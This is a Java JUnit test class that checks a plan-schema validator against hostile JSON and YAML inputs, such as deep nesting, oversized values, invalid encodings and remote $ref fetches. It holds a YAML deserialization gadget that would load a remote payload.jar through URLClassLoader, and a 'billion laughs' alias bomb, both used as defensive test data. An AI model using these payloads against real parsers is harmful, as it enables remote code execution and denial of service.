package io.github.councilplan.schema;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.nio.charset.Charset;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Documents built to hurt the validator: each ends in a located problem, quickly. */
class HostileInputTest {
    private static final Duration BOUND = Duration.ofSeconds(30);
    private static final PlanValidator VALIDATOR = PlanValidator.create();
    private static final String HEAD = "{\"schemaVersion\":\"0.2\",\"id\":\"p\",\"title\":\"T\","
            + "\"organisation\":{\"name\":\"C\"},\"period\":{\"start\":\"2024\",\"end\":\"2029\"}";

    @RegisterExtension
    final LoopbackServer server = new LoopbackServer();

    private String url(String path) {
        return server.address(path);
    }

    private static ValidationReport validate(String document) {
        return assertTimeoutPreemptively(BOUND, () -> VALIDATOR.validate(document, DocumentFormat.JSON));
    }

    private static ValidationReport validate(String document, PlanValidator validator) {
        return assertTimeoutPreemptively(BOUND, () -> validator.validate(document, DocumentFormat.JSON));
    }

    private static ValidationReport validate(String document, DocumentFormat format) {
        return Verdicts.validate(VALIDATOR, document, format);
    }

    private static ValidationReport validate(byte[] document, DocumentFormat format) {
        return Verdicts.validate(VALIDATOR, document, format);
    }

    /** Asserts the report has exactly one problem, of the given code, located; and returns it. */
    private static Problem onlyProblem(ValidationReport report, ProblemCode code) {
        Verdicts.assertLocated(report, null);
        assertThat(report.problems()).extracting(Problem::code).containsExactly(code);
        return report.problems().get(0);
    }

    /** The head of a plan in YAML, to which a test adds its own last lines. */
    private static final String YAML_HEAD = "schemaVersion: \"0.2\"\nid: p\ntitle: T\norganisation: {name: C}\n"
            + "period: {start: \"2024\", end: \"2029\"}\n";

    private static byte[] concat(byte[]... parts) {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    @Test
    void remoteSchemaReferenceAtTheRootIsNotFetched() {
        ValidationReport report = validate("{\"$schema\":\"" + url("/schema.json") + "\","
                + "\"$id\":\"" + url("/id.json") + "\",\"$ref\":\"" + url("/ref.json") + "\"," + HEAD.substring(1) + "}");

        assertThat(report.errors()).extracting(Problem::code).containsOnly(ProblemCode.SCHEMA_UNKNOWN_PROPERTY);
        assertThat(report.errors()).extracting(Problem::pointer).containsExactlyInAnyOrder("/$schema", "/$id", "/$ref");
        assertThat(server.connections()).hasValue(0);
    }

    @Test
    void remoteReferencesInsideExtensionsAreKeptAsDataAndNotFetched() {
        ValidationReport report = validate(HEAD + ",\"extensions\":{\"$schema\":\"" + url("/s") + "\",\"$ref\":\""
                + url("/r") + "\",\"nested\":{\"$id\":\"" + url("/i") + "\"}}}");

        assertThat(report.isValid()).isTrue();
        assertThat(server.connections()).hasValue(0);
    }

    @Test
    void nestingOneHundredThousandDeepIsALocatedLimitProblem() {
        String deep = "[".repeat(100_000) + "]".repeat(100_000);

        ValidationReport report = validate(HEAD + ",\"extensions\":{\"deep\":" + deep + "}}");

        assertThat(report.problems()).singleElement().satisfies(problem -> {
            assertThat(problem.code()).isEqualTo(ProblemCode.LIMIT_NESTING_DEPTH);
            assertThat(problem.line()).isEqualTo(1);
            assertThat(problem.column()).isGreaterThan(HEAD.length());
        });
    }

    @Test
    void sixtyMegabyteStringIsALimitProblem() {
        String huge = "x".repeat(60 * 1024 * 1024);

        ValidationReport report = validate(HEAD + ",\"extensions\":{\"s\":\"" + huge + "\"}}",
                PlanValidator.create(ValidationLimits.defaults().withMaxDocumentBytes(128L * 1024 * 1024)));

        assertThat(report.problems()).extracting(Problem::code).containsExactly(ProblemCode.LIMIT_STRING_LENGTH);
    }

    @Test
    void documentOverTheSizeLimitIsALimitProblemBeforeParsing() {
        ValidationReport report = validate(HEAD + "}", PlanValidator.create(
                ValidationLimits.defaults().withMaxDocumentBytes(10)));

        assertThat(report.problems()).extracting(Problem::code).containsExactly(ProblemCode.LIMIT_DOCUMENT_SIZE);
    }

    @Test
    void numberWithFiveThousandDigitsIsALimitProblem() {
        ValidationReport report = validate(HEAD + ",\"extensions\":{\"n\":" + "9".repeat(5000) + "}}");

        assertThat(report.problems()).extracting(Problem::code).containsExactly(ProblemCode.LIMIT_NUMBER_LENGTH);
    }

    @Test
    void nanAndInfinityAreSyntaxProblems() {
        assertThat(validate(HEAD + ",\"extensions\":{\"n\":NaN}}").problems())
                .extracting(Problem::code).containsExactly(ProblemCode.SYNTAX_MALFORMED);
        assertThat(validate(HEAD + ",\"extensions\":{\"n\":-Infinity}}").problems())
                .extracting(Problem::code).containsExactly(ProblemCode.SYNTAX_MALFORMED);
    }

    @Test
    void duplicateKeysInsideExtensionsAreASyntaxProblem() {
        assertThat(validate(HEAD + ",\"extensions\":{\"a\":1,\"a\":2}}").problems())
                .extracting(Problem::code).containsExactly(ProblemCode.SYNTAX_DUPLICATE_KEY);
    }

    @Test
    void utf16WithByteOrderMarkIsRead() {
        byte[] utf16 = ("\uFEFF" + HEAD + "}").getBytes(StandardCharsets.UTF_16BE);

        ValidationReport report = VALIDATOR.validate(utf16, DocumentFormat.JSON);

        assertThat(report.isValid()).isTrue();
    }

    @Test
    void utf8ByteOrderMarkIsRead() {
        byte[] bom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
        byte[] body = (HEAD + "}").getBytes(StandardCharsets.UTF_8);
        byte[] document = new byte[bom.length + body.length];
        System.arraycopy(bom, 0, document, 0, bom.length);
        System.arraycopy(body, 0, document, bom.length, body.length);

        assertThat(VALIDATOR.validate(document, DocumentFormat.JSON).isValid()).isTrue();
    }

    @Test
    void invalidUtf8IsALocatedSyntaxProblem() {
        byte[] body = (HEAD + ",\"extensions\":{\"s\":\"ab\"}}").getBytes(StandardCharsets.UTF_8);
        int at = new String(body, StandardCharsets.UTF_8).indexOf("ab");
        body[at] = (byte) 0xC3;
        body[at + 1] = (byte) 0x28;

        ValidationReport report = VALIDATOR.validate(body, DocumentFormat.JSON);

        assertThat(report.problems()).singleElement().satisfies(problem -> {
            assertThat(problem.code()).isEqualTo(ProblemCode.SYNTAX_MALFORMED);
            assertThat(problem.line()).isEqualTo(1);
        });
    }

    @Test
    void controlCharacterInStringIsASyntaxProblem() {
        assertThat(validate(HEAD + ",\"extensions\":{\"s\":\"a\u0001b\"}}").problems())
                .extracting(Problem::code).containsExactly(ProblemCode.SYNTAX_MALFORMED);
    }

    @Test
    void numberWithAHugeExponentIsALocatedProblemNotAnExpansion() {
        ValidationReport report = validate(HEAD + ",\"measures\":[{\"id\":\"k\",\"name\":\"K\",\"unit\":\"%\","
                + "\"direction\":\"onTarget\",\"frequency\":\"calendarYear\",\"targets\":{\"2025\":1e10000000}}]}");

        assertThat(report.problems()).singleElement().satisfies(problem -> {
            assertThat(problem.code()).isEqualTo(ProblemCode.LIMIT_NUMBER_LENGTH);
            assertThat(problem.column()).isGreaterThan(HEAD.length());
        });
    }

    @Test
    void exponentBeyondWhatADecimalHoldsIsALocatedProblem() {
        ValidationReport report = validate(HEAD + ",\"extensions\":{\"x\":1e-2147483649}}");

        assertThat(report.problems()).singleElement().satisfies(problem -> {
            assertThat(problem.code()).isEqualTo(ProblemCode.LIMIT_NUMBER_LENGTH);
            assertThat(problem.column()).isGreaterThan(HEAD.length());
        });
    }

    @Test
    void unpairedSurrogateInStringInputIsALocatedProblemNotAReplacement() {
        ValidationReport report = validate(HEAD.replace("\"title\":\"T\"", "\"title\":\"a\uD800b\"") + "}");

        assertThat(report.problems()).singleElement().satisfies(problem -> {
            assertThat(problem.code()).isEqualTo(ProblemCode.SYNTAX_MALFORMED);
            assertThat(problem.message()).contains("surrogate");
            assertThat(problem.column()).isEqualTo(HEAD.indexOf("\"T\"") + 3);
        });
    }

    @Test
    void unlimitedDocumentSizeStillReadsStreams() throws IOException {
        PlanValidator unlimited = PlanValidator.create(ValidationLimits.defaults().withMaxDocumentBytes(Long.MAX_VALUE));

        ValidationReport report = unlimited.validate(
                new java.io.ByteArrayInputStream((HEAD + "}").getBytes(StandardCharsets.UTF_8)), DocumentFormat.JSON);

        assertThat(report.isValid()).isTrue();
    }

    // ---------------------------------------------------------------------------------------------
    // The same attacks in YAML, and the ones only YAML allows

    @Test
    void remoteReferencesInYamlAreNotFetched() {
        ValidationReport report = validate("$schema: " + url("/schema.json") + "\n$ref: " + url("/ref.json") + "\n"
                + YAML_HEAD + "extensions: {$id: " + url("/id.json") + "}\n", DocumentFormat.YAML);

        assertThat(report.errors()).extracting(Problem::code, Problem::pointer).containsExactlyInAnyOrder(
                tuple(ProblemCode.SCHEMA_UNKNOWN_PROPERTY, "/$schema"), tuple(ProblemCode.SCHEMA_UNKNOWN_PROPERTY, "/$ref"));
        assertThat(server.connections()).hasValue(0);
    }

    @Test
    void remoteReferenceInsideAnElementIsAnUnknownPropertyAndNotFetched() {
        ValidationReport report = validate(HEAD + ",\"themes\":[{\"id\":\"t\",\"name\":\"N\",\"$ref\":\""
                + url("/theme.json") + "\"}]}", DocumentFormat.JSON);

        assertThat(report.errors()).extracting(Problem::code, Problem::pointer)
                .containsExactly(tuple(ProblemCode.SCHEMA_UNKNOWN_PROPERTY, "/themes/0/$ref"));
        assertThat(server.connections()).hasValue(0);
    }

    @Test
    void yamlTagsThatWouldLoadClassesFromTheNetworkAreRefusedAndNothingIsFetched() {
        String exploit = "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\""
                + url("/payload.jar") + "\"]]]]";

        for (String document : List.of(exploit, YAML_HEAD + "extensions: {x: " + exploit + "}\n",
                "%TAG !j! tag:yaml.org,2002:java.net.\n---\n" + YAML_HEAD + "extensions: {x: !j!URL [" + url("/") + "]}\n",
                YAML_HEAD + "extensions: {x: !ruby/object:Gem::Installer {i: x}}\n")) {
            Problem problem = onlyProblem(validate(document, DocumentFormat.YAML), ProblemCode.SYNTAX_YAML_TAG);
            assertThat(problem.message()).as(document).contains("is not allowed");
        }
        assertThat(server.connections()).hasValue(0);
    }

    @Test
    void billionLaughsInYamlIsALocatedAliasLimitProblem() {
        StringBuilder yaml = new StringBuilder(YAML_HEAD).append("extensions:\n  l0: &l0 [lol, lol, lol, lol, lol]\n");
        for (int level = 1; level <= 12; level++) {
            String previous = "*l" + (level - 1);
            yaml.append("  l").append(level).append(": &l").append(level).append(" [")
                    .append(String.join(", ", java.util.Collections.nCopies(10, previous))).append("]\n");
        }

        Problem problem = onlyProblem(validate(yaml.toString(), DocumentFormat.YAML), ProblemCode.LIMIT_YAML_ALIASES);

        assertThat(problem.pointer()).startsWith("/extensions/l");
        assertThat(problem.line()).isGreaterThan(YAML_HEAD.split("\n").length);
    }

    /**
     * Aliases are limited in the characters they add, whatever the node aliased: a string, a key,
     * a collection of them, or an alias used as a key; the limit itself is allowed.
     */
    @ParameterizedTest
    @ValueSource(strings = {
        "a: &a %s\nb: [*a, *a]\n",
        "a: &a {%s: 1}\nb: [*a, *a]\n",
        "a: &a [[x, %s]]\nb: [*a, *a]\n",
        "k: &k %s\nb: {*k : 1, other: *k}\n"})
    void aliasesAddingMoreCharactersThanTheLimitAreALocatedLimitProblem(String extensions) {
        PlanValidator limited = PlanValidator.create(ValidationLimits.defaults().withMaxAliasCharacters(100));
        String within = YAML_HEAD + "extensions:\n" + indent(String.format(extensions, "x".repeat(48)));
        String beyond = YAML_HEAD + "extensions:\n" + indent(String.format(extensions, "x".repeat(51)));

        assertThat(Verdicts.validate(limited, within, DocumentFormat.YAML).problems()).isEmpty();
        Problem problem = onlyProblem(Verdicts.validate(limited, beyond, DocumentFormat.YAML),
                ProblemCode.LIMIT_YAML_ALIASES);
        assertThat(problem.message()).contains("characters");
        assertThat(problem.pointer()).startsWith("/extensions/");
        assertThat(problem.line()).isGreaterThan(YAML_HEAD.split("\n").length + 1);
    }

    private static String indent(String lines) {
        return ("  " + lines.replace("\n", "\n  ")).stripTrailing() + "\n";
    }

    @Test
    void nestingOneHundredThousandDeepInYamlIsALocatedLimitProblem() {
        for (String deep : List.of("[".repeat(100_000) + "]".repeat(100_000), "{a: ".repeat(100_000) + "}".repeat(100_000),
                "\n" + "  - ".repeat(1) + "- ".repeat(100_000) + "x")) {
            Problem problem = onlyProblem(validate(YAML_HEAD + "extensions:\n  deep: " + deep + "\n", DocumentFormat.YAML),
                    ProblemCode.LIMIT_NESTING_DEPTH);
            assertThat(problem.pointer()).startsWith("/extensions/deep");
        }
    }

    @Test
    void nestingOneHundredThousandDeepInObjectsIsALocatedLimitProblem() {
        Problem problem = onlyProblem(validate(HEAD + ",\"extensions\":{\"deep\":" + "{\"a\":".repeat(100_000) + "1"
                + "}".repeat(100_000) + "}}", DocumentFormat.JSON), ProblemCode.LIMIT_NESTING_DEPTH);

        assertThat(problem.pointer()).startsWith("/extensions/deep/a/a");
    }

    @Test
    void sixtyMegabyteStringUnderTheDefaultLimitsIsALocatedLimitProblemInJsonAndYaml() {
        String huge = "x".repeat(60 * 1024 * 1024);

        Problem json = onlyProblem(validate(HEAD + ",\"extensions\":{\"s\":\"" + huge + "\"}}", DocumentFormat.JSON),
                ProblemCode.LIMIT_STRING_LENGTH);
        Problem yaml = onlyProblem(validate(YAML_HEAD + "extensions:\n  s: " + huge + "\n", DocumentFormat.YAML),
                ProblemCode.LIMIT_STRING_LENGTH);

        assertThat(json.pointer()).isEqualTo("/extensions/s");
        assertThat(yaml.pointer()).isEqualTo("/extensions/s");
        assertThat(yaml.line()).isEqualTo(YAML_HEAD.split("\n").length + 2);
    }

    @Test
    void sixtyMegabyteKeyIsALocatedLimitProblem() {
        String huge = "k".repeat(60 * 1024 * 1024);

        onlyProblem(validate(HEAD + ",\"extensions\":{\"" + huge + "\":1}}", DocumentFormat.JSON),
                ProblemCode.LIMIT_STRING_LENGTH);
        onlyProblem(validate(YAML_HEAD + "extensions:\n  " + huge + ": 1\n", DocumentFormat.YAML),
                ProblemCode.LIMIT_STRING_LENGTH);
    }

    @Test
    void numberWithFiveThousandDigitsIsALocatedLimitProblemInJsonAndYaml() {
        String digits = "9".repeat(5000);

        Problem json = onlyProblem(validate(HEAD + ",\"extensions\":{\"n\":-" + digits + "}}", DocumentFormat.JSON),
                ProblemCode.LIMIT_NUMBER_LENGTH);
        Problem yaml = onlyProblem(validate(YAML_HEAD + "extensions: {n: -" + digits + "}\n", DocumentFormat.YAML),
                ProblemCode.LIMIT_NUMBER_LENGTH);

        assertThat(json.pointer()).isEqualTo("/extensions/n");
        assertThat(yaml.pointer()).isEqualTo("/extensions/n");
        assertThat(json.column()).as("at the number's sign").isEqualTo(HEAD.length() + 20);
        assertThat(json.message()).isEqualTo(yaml.message());
    }

    @Test
    void decimalWithFiveThousandFractionDigitsIsALocatedLimitProblem() {
        onlyProblem(validate(HEAD + ",\"extensions\":{\"n\":0." + "1".repeat(5000) + "}}", DocumentFormat.JSON),
                ProblemCode.LIMIT_NUMBER_LENGTH);
        onlyProblem(validate(YAML_HEAD + "extensions: {n: 0." + "1".repeat(5000) + "}\n", DocumentFormat.YAML),
                ProblemCode.LIMIT_NUMBER_LENGTH);
    }

    @ParameterizedTest
    @ValueSource(strings = {".nan", ".NaN", ".inf", "-.Inf", "+.INF"})
    void notANumberAndInfinityInYamlAreLocatedSyntaxProblems(String value) {
        Problem problem = onlyProblem(validate(YAML_HEAD + "extensions: {n: " + value + "}\n", DocumentFormat.YAML),
                ProblemCode.SYNTAX_MALFORMED);

        assertThat(problem.line()).isEqualTo(YAML_HEAD.split("\n").length + 1);
        assertThat(problem.pointer()).isEqualTo("/extensions/n");
    }

    @ParameterizedTest
    @ValueSource(strings = {"NaN", "Infinity", "-Infinity", "+1", "01", "1.", ".5", "0x10"})
    void numbersJsonDoesNotHaveAreLocatedSyntaxProblems(String value) {
        Problem problem = onlyProblem(validate(HEAD + ",\"extensions\":{\"n\":" + value + "}}", DocumentFormat.JSON),
                ProblemCode.SYNTAX_MALFORMED);

        assertThat(problem.column()).isGreaterThan(HEAD.length());
    }

    @Test
    void duplicateKeyAtTheTopIsALocatedSyntaxProblemInJsonAndYaml() {
        Problem json = onlyProblem(validate(HEAD + ",\"title\":\"Again\"}", DocumentFormat.JSON),
                ProblemCode.SYNTAX_DUPLICATE_KEY);
        Problem yaml = onlyProblem(validate(YAML_HEAD + "title: Again\n", DocumentFormat.YAML),
                ProblemCode.SYNTAX_DUPLICATE_KEY);

        assertThat(json.pointer()).isEqualTo("/title");
        assertThat(yaml.pointer()).isEqualTo("/title");
        assertThat(yaml.line()).isEqualTo(YAML_HEAD.split("\n").length + 1);
    }

    @ParameterizedTest
    @ValueSource(strings = {"{}", "]", "x", "\"more\"", "// comment", "\u0000"})
    void contentAfterTheJsonDocumentIsALocatedSyntaxProblem(String trailing) {
        Problem problem = onlyProblem(validate(HEAD + "}\n" + trailing, DocumentFormat.JSON),
                ProblemCode.SYNTAX_MALFORMED);

        assertThat(problem.line()).isEqualTo(2);
    }

    @ParameterizedTest
    @ValueSource(strings = {"---\na: 1\n", "--- {}\n", "...\n--- x\n"})
    void aSecondYamlDocumentIsALocatedSyntaxProblem(String trailing) {
        Problem problem = onlyProblem(validate(YAML_HEAD + trailing, DocumentFormat.YAML), ProblemCode.SYNTAX_MALFORMED);

        assertThat(problem.line()).isGreaterThan(YAML_HEAD.split("\n").length);
    }

    @ParameterizedTest
    @ValueSource(strings = {"UTF-16LE", "UTF-16BE", "UTF-32LE", "UTF-32BE"})
    void utf16AndUtf32WithAndWithoutAByteOrderMarkAreRead(String charset) {
        for (String bom : List.of("", "\uFEFF")) {
            assertThat(validate((bom + HEAD + "}").getBytes(Charset.forName(charset)), DocumentFormat.JSON).isValid())
                    .as("JSON in %s, BOM '%s'", charset, bom).isTrue();
            assertThat(validate((bom + YAML_HEAD).getBytes(Charset.forName(charset)), DocumentFormat.YAML).isValid())
                    .as("YAML in %s, BOM '%s'", charset, bom).isTrue();
        }
    }

    @Test
    void byteOrderMarkAtTheStartOfAStringIsRead() {
        assertThat(validate("\uFEFF" + HEAD + "}", DocumentFormat.JSON).isValid()).isTrue();
        assertThat(validate("\uFEFF" + YAML_HEAD, DocumentFormat.YAML).isValid()).isTrue();
    }

    @Test
    void byteOrderMarkInsideTheDocumentIsALocatedSyntaxProblem() {
        Problem problem = onlyProblem(validate(HEAD + ",\uFEFF\"extensions\":{}}", DocumentFormat.JSON),
                ProblemCode.SYNTAX_MALFORMED);

        assertThat(problem.column()).isEqualTo(HEAD.length() + 2);
    }

    @Test
    void utf16WithAnUnpairedSurrogateIsALocatedSyntaxProblem() {
        byte[] document = concat((HEAD + ",\"extensions\":{\"s\":\"").getBytes(StandardCharsets.UTF_16BE),
                new byte[] {(byte) 0xD8, 0x00}, "\"}}".getBytes(StandardCharsets.UTF_16BE));

        onlyProblem(validate(document, DocumentFormat.JSON), ProblemCode.SYNTAX_MALFORMED);
        onlyProblem(validate(document, DocumentFormat.YAML), ProblemCode.SYNTAX_MALFORMED);
    }

    /** Overlong, truncated, stray and surrogate encodings, and bytes UTF-8 never uses. */
    @ParameterizedTest
    @ValueSource(strings = {"C0AF", "E080AF", "F08080AF", "ED A080", "80", "BF", "C3", "E282", "FE", "FF", "F4908080"})
    void invalidUtf8IsALocatedSyntaxProblemInJsonAndYaml(String hex) {
        byte[] bad = java.util.HexFormat.of().parseHex(hex.replace(" ", ""));
        byte[] json = concat((HEAD + ",\"extensions\":{\"s\":\"").getBytes(StandardCharsets.UTF_8), bad,
                "\"}}".getBytes(StandardCharsets.UTF_8));
        byte[] yaml = concat((YAML_HEAD + "extensions: {s: \"").getBytes(StandardCharsets.UTF_8), bad,
                "\"}\n".getBytes(StandardCharsets.UTF_8));

        assertThat(onlyProblem(validate(json, DocumentFormat.JSON), ProblemCode.SYNTAX_MALFORMED).line()).isEqualTo(1);
        assertThat(onlyProblem(validate(yaml, DocumentFormat.YAML), ProblemCode.SYNTAX_MALFORMED).line())
                .isEqualTo(YAML_HEAD.split("\n").length + 1);
    }

    @Test
    void invalidUtf8AtTheVeryEndIsALocatedSyntaxProblem() {
        byte[] truncated = concat((HEAD + "}").getBytes(StandardCharsets.UTF_8), new byte[] {(byte) 0xE2, (byte) 0x82});

        onlyProblem(validate(truncated, DocumentFormat.JSON), ProblemCode.SYNTAX_MALFORMED);
        onlyProblem(validate(truncated, DocumentFormat.YAML), ProblemCode.SYNTAX_MALFORMED);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", " ", "\n\n", "\uFEFF", " \r\n"})
    void emptyDocumentIsASyntaxProblemAtTheStart(String blank) {
        for (DocumentFormat format : DocumentFormat.values()) {
            Problem problem = onlyProblem(validate(blank, format), ProblemCode.SYNTAX_EMPTY);
            assertThat(problem.line()).isEqualTo(1);
            assertThat(problem.column()).isEqualTo(1);
            assertThat(problem.pointer()).isEmpty();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"# only a comment\n", "---\n", "--- \n...\n"})
    void yamlWithoutADocumentIsEmpty(String yaml) {
        onlyProblem(validate(yaml, DocumentFormat.YAML), ProblemCode.SYNTAX_EMPTY);
    }
}
